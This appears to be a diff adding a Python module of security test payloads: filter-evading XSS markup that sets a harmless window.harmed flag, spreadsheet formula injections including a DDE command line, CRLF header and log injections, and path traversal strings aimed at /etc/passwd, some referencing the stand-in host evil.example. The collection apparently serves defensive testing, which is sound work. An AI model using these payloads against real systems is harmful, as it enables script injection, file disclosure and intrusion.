@@ -1,0 +1,103 @@
+"""Texts that harm where a program is careless. In every one that could run, it would set ``window.harmed``."""
+
+from __future__ import annotations
+
+_RUN = "window.harmed=1"
+_CODED = "&#119;indow.harmed=1"
+MARKUP = (
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt>{_RUN}</sCrIpT>",
+    f"<script src=data:text/javascript,{_RUN}></script>",
+    f"<script/x>{_RUN}</script >",
+    f"<<script>{_RUN}//<</script>",
+    f"<img src=x onerror={_RUN}>",
+    f'"><img src=x onerror={_RUN}>',
+    f"'><img src=x onerror={_RUN}>",
+    f"`><img src=x onerror={_RUN}>",
+    f"<img src=x onerror={_CODED}>",
+    f"<img/src=x/onerror={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\" onload={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<details open ontoggle={_RUN}>x",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    "<iframe srcdoc='<script>top.harmed=1</script>'></iframe>",
+    "<iframe src=javascript:top.harmed=1></iframe>",
+    f"<object data=javascript:{_RUN}></object>",
+    f"<embed src=javascript:{_RUN}>",
+    f"<form><button formaction=javascript:{_RUN}>x",
+    f"<a href=javascript:{_RUN}>x</a>",
+    f"<a href='java\tscript:{_RUN}'>x</a>",
+    f"<math><mi xlink:href=javascript:{_RUN}>x</mi></math>",
+    "<base href=//evil.example/>",
+    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
+    f"</template></div><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"</textarea><script>{_RUN}</script>",
+    f"</script><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script><!--",
+    f"]]><script>{_RUN}</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"javascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"' onmouseover={_RUN} x='",
+    f'" autofocus onfocus={_RUN} x="',
+    f"\\u003cimg src=x onerror={_RUN}\\u003e",
+    f"%3Cimg src=x onerror={_RUN}%3E",
+    f"\u202e<img src=x onerror={_RUN}>",
+    f"\ufeff<img src=x onerror={_RUN}>",
+    f"＜img src=x onerror={_RUN}＞",
+    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}}",
+    f'[x](javascript:{_RUN}) ![x](x "onerror={_RUN}")',
+    "&lt;img src=x onerror=window.harmed=1&gt;",
+    "';window.harmed=1;//",
+    '"};window.harmed=1;//',
+)
+"""Markup and scripts, in the ways that get past filters."""
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("//evil.example","x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    '"=1+1',
+    ";=1+1",
+)
+"""What a program for spreadsheets would work out."""
+LINES = (
+    "x\r\nX-Injected: 1",
+    "x\nX-Injected: 1",
+    "x\r\n\r\n<script>window.harmed=1</script>",
+    "x%0d%0aX-Injected:%201",
+    "x\u2028X-Injected: 1",
+    "x\x85X-Injected: 1",
+    "x\n2026-01-01 ERROR INJECTED a line of the log",
+    '\x1b[31mINJECTED\x1b[0m {"level": "ERROR"}',
+    "x\x00.png",
+)
+"""What would begin another header, or another line of a log."""
+PATHS = (
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "%2e%2e/%2e%2e/etc/passwd",
+    "..%252f..%252fetc/passwd",
+    "....//....//etc/passwd",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "\\\\evil.example\\share",
+    "proposals/../../etc/passwd",
+    "\x00/etc/passwd",
+)
+"""What would lead out of the folder of the site."""
+EVERYTHING = (*MARKUP, *FORMULAS, *LINES, *PATHS)
